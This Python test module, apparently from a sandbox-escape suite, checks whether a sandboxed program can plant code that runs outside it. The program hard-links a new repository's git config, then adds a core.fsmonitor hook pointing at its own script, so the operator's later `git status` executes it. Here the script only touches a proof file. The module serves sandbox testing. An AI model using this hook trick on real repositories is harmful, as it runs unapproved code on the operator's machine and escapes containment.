"""Leaves a harmless new repository whose configuration has a second name, and changes it through
that in the next run.

layer: sweep
control: without a sandbox the operator's `git status` runs the program that the second run has
named
"""
import os

NEEDS = ["git"]


def attack(a):
    import subprocess
    if a["round"] == 1:
        subprocess.run(["git", "init", "-q", "repo"], check=True)
        os.link("repo/.git/config", "repo/notes.txt")
        return
    put("evil.sh", f"#!/bin/sh\ntouch {a['proof']}\n")
    os.chmod("evil.sh", 0o755)
    put("repo/notes.txt", f"[core]\n\tfsmonitor = {a['ws']}/evil.sh\n", "a")


def run(s):
    proof = os.path.join(s.outside, "proof")
    for number in (1, 2):
        s.args = {"proof": proof, "ws": s.ws, "round": number}
        s.run()
    s.t.run("git", "status", cwd=os.path.join(s.ws, "repo"))
    return os.path.exists(proof)


def test(t):
    import sys
    from harness import escape
    escape.run_both(t, sys.modules[__name__], run)
